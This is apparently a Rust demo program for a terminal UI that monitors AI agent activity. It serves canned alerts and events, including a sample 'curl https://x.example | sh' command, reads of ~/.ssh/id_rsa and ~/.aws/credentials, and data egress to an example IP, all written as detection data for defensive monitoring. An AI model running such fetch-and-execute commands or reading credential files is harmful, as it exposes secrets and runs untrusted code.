//! The TUI on canned data, without a daemon: `cargo run -p tui --example demo`
//! (or `... --example demo -- /path/to/agentwatch.sock` against a daemon).
//!
//! An in-memory [`Backend`] answers every request from a small fixed world (two sessions, a few
//! alerts, one loss) and its live stream raises a new alert every second, so the views, keys and
//! live updates can be tried (and smoke-tested in tmux) anywhere.

use std::collections::BTreeMap;
use std::thread;
use std::time::Duration;

use agent_api::{
    Aggregation, AlertList, Answer, Done, Hit, Item, LiveSession, PolicyStatus, ProcessNode, Reply,
    Request, RuleStatus, RulesListing, SearchResults, SessionDetail, SessionList, SessionSummary,
    Status, StoreStats, StoreStatus, StreamItem,
};
use agent_model::{
    AgentRef, Alert, BStr, Event, File, Kind, KindField, Monitor, Process, SessionRef, Severity,
    Timestamp,
};
use tui::backend::LiveLine;
use tui::{Backend, Options, Subscription};

const SESSION: &str = "00000000c0ffee01";
const SEC: i64 = 1_000_000_000;

fn now_ns() -> i64 {
    Timestamp::now().0
}

fn alert(i: u64, t: i64) -> Alert {
    let (rule, severity, summary) = match i % 3 {
        0 => (
            "secret-read",
            Severity::High,
            format!("claude read ~/.ssh/id_rsa ({i})"),
        ),
        1 => (
            "curl-pipe-shell",
            Severity::Critical,
            "curl https://x.example | sh".to_string(),
        ),
        _ => (
            "egress-volume",
            Severity::Medium,
            "12 MiB sent to 203.0.113.7".to_string(),
        ),
    };
    Alert {
        id: format!("demo-{i}"),
        time: Timestamp(t),
        host: "devbox".into(),
        rule: rule.into(),
        severity,
        agent: Some(AgentRef {
            name: "claude".into(),
        }),
        session: Some(SessionRef { id: SESSION.into() }),
        summary: BStr::from(summary.as_str()),
        count: 1,
        first_time: Timestamp(t),
        last_time: Timestamp(t),
        ..Default::default()
    }
}

fn alert_hit(i: u64, t: i64) -> Hit {
    Hit {
        item: Item::Alert(Box::new(alert(i, t))),
        triage: None,
    }
}

fn event(i: u64, t: i64, kind: Kind, path: &str) -> Hit {
    let mut e = Event {
        id: format!("ev-{i}"),
        time: Timestamp(t),
        host: "devbox".into(),
        kind: KindField(kind),
        agent: Some(AgentRef {
            name: "claude".into(),
        }),
        session: Some(SessionRef { id: SESSION.into() }),
        process: Process {
            pid: 4242,
            tid: 4242,
            start: Timestamp(t - 10 * SEC),
            exe: BStr::from("/usr/bin/cat"),
            comm: BStr::from("cat"),
            uid: 1000,
            gid: 1000,
            ..Default::default()
        },
        ..Default::default()
    };
    match kind {
        Kind::FileOpen => {
            e.file = Some(File {
                path: BStr::from(path),
                access: Some("read".into()),
                ..Default::default()
            })
        }
        Kind::MonitorLoss => {
            e.monitor = Some(Monitor {
                loss_kind: Some("file.open".into()),
                loss_count: Some(12),
                message: None,
                ..Default::default()
            })
        }
        _ => e.process.cmdline = BStr::from(path),
    }
    Hit {
        item: Item::Event(Box::new(e)),
        triage: None,
    }
}

fn node(pid: u32, t: i64, exe: &str, children: Vec<usize>) -> ProcessNode {
    ProcessNode {
        pid,
        start: Timestamp(t),
        exe: exe.into(),
        parent_pid: None,
        parent_start: None,
        children,
    }
}

struct Demo {
    start: i64,
}

impl Demo {
    fn status(&self) -> Status {
        let s = self.start;
        Status {
            host: "devbox".into(),
            uptime_s: ((now_ns() - s) / SEC) as f64,
            events: BTreeMap::from([("file.open".into(), 900), ("process.exec".into(), 40)]),
            events_per_s: BTreeMap::from([
                ("file.open".into(), 20.0 + (now_ns() / SEC % 7) as f64),
                ("process.exec".into(), 1.5),
            ]),
            losses: BTreeMap::from([("file.open".into(), 12)]),
            sessions: vec![LiveSession {
                id: SESSION.into(),
                ..Default::default()
            }],
            store: Some(StoreStatus {
                stats: StoreStats {
                    events: 940,
                    alerts: 5,
                    index_bytes: 4_000_000,
                    ..Default::default()
                },
                ..Default::default()
            }),
            ..Default::default()
        }
    }
}

impl Backend for Demo {
    fn request(&mut self, req: &Request) -> anyhow::Result<Reply<Answer>> {
        let s = self.start;
        let alerts = || (0..5).map(|i| alert_hit(i, s + i as i64 * SEC)).collect();
        Ok(Reply::Ok(match req {
            Request::Status => Answer::Status(Box::new(self.status())),
            Request::Rules => Answer::Rules(RulesListing {
                policy: PolicyStatus {
                    source: "demo".into(),
                    generation: 1,
                    ..Default::default()
                },
                rules: vec![RuleStatus {
                    id: "secret-read".into(),
                    severity: Severity::High,
                    enabled: true,
                    description: "an agent read a credential file".into(),
                    kinds: vec![Kind::FileOpen],
                    tags: vec![],
                    mode: "event".into(),
                    defined_at: "demo.toml:1:1".into(),
                    hits: 3,
                    last_hit: None,
                    overrides: vec![],
                    action: None,
                    action_mode: None,
                }],
            }),
            Request::Alerts { .. } => Answer::Alerts(AlertList { hits: alerts() }),
            Request::Sessions { .. } => Answer::Sessions(SessionList {
                sessions: vec![SessionSummary {
                    id: SESSION.into(),
                    agent: Some("claude".into()),
                    start: Timestamp(s - 60 * SEC),
                    end: Timestamp::now(),
                    events: 940,
                    alerts: 5,
                    root_exe: Some("/usr/bin/bash".into()),
                    root_pid: Some(4200),
                }],
            }),
            Request::Session { .. } => Answer::Session(Box::new(SessionDetail {
                id: SESSION.into(),
                events: vec![
                    event(1, s, Kind::ProcessExec, "/usr/bin/bash -l"),
                    event(2, s + SEC / 2, Kind::FileOpen, "/home/dev/.ssh/id_rsa"),
                    event(3, s + 2 * SEC, Kind::MonitorLoss, ""),
                    event(4, s + 3 * SEC, Kind::FileOpen, "/home/dev/.aws/credentials"),
                ],
                alerts: alerts(),
                processes: vec![
                    node(4200, s, "/usr/bin/bash", vec![1]),
                    node(4242, s, "/usr/bin/cat", vec![]),
                ],
                roots: vec![0],
            })),
            Request::Search { .. } => Answer::Search(SearchResults {
                total: 2,
                hits: vec![event(2, s, Kind::FileOpen, "/home/dev/.ssh/id_rsa")],
                aggregation: Some(Aggregation::Terms {
                    field: "file.path".into(),
                    buckets: vec![
                        ("/home/dev/.ssh/id_rsa".into(), 7),
                        ("/etc/hosts".into(), 2),
                    ],
                    other: 0,
                }),
            }),
            Request::Triage { .. } => Answer::Done(Done {}),
            r => return Ok(Reply::err(format!("unknown op `{}`", r.op()))),
        }))
    }

    fn subscribe(&mut self, _req: &Request) -> anyhow::Result<Option<Box<dyn Subscription>>> {
        Ok(Some(Box::new(Live { n: 5 })))
    }
}

struct Live {
    n: u64,
}

impl Subscription for Live {
    fn next(&mut self) -> anyhow::Result<Option<LiveLine>> {
        thread::sleep(Duration::from_secs(1));
        self.n += 1;
        Ok(Some(Ok(StreamItem::Alert(Box::new(alert(
            self.n,
            now_ns(),
        ))))))
    }
}

fn main() -> anyhow::Result<()> {
    // `demo SOCKET` talks to a real daemon socket instead.
    if let Some(path) = std::env::args_os().nth(1) {
        return tui::run(tui::SocketBackend::factory(path.into()), Options::default());
    }
    let start = now_ns() - 30_000_000_000;
    tui::run(
        Box::new(move || Ok(Box::new(Demo { start }) as Box<dyn Backend>)),
        Options::default(),
    )
}
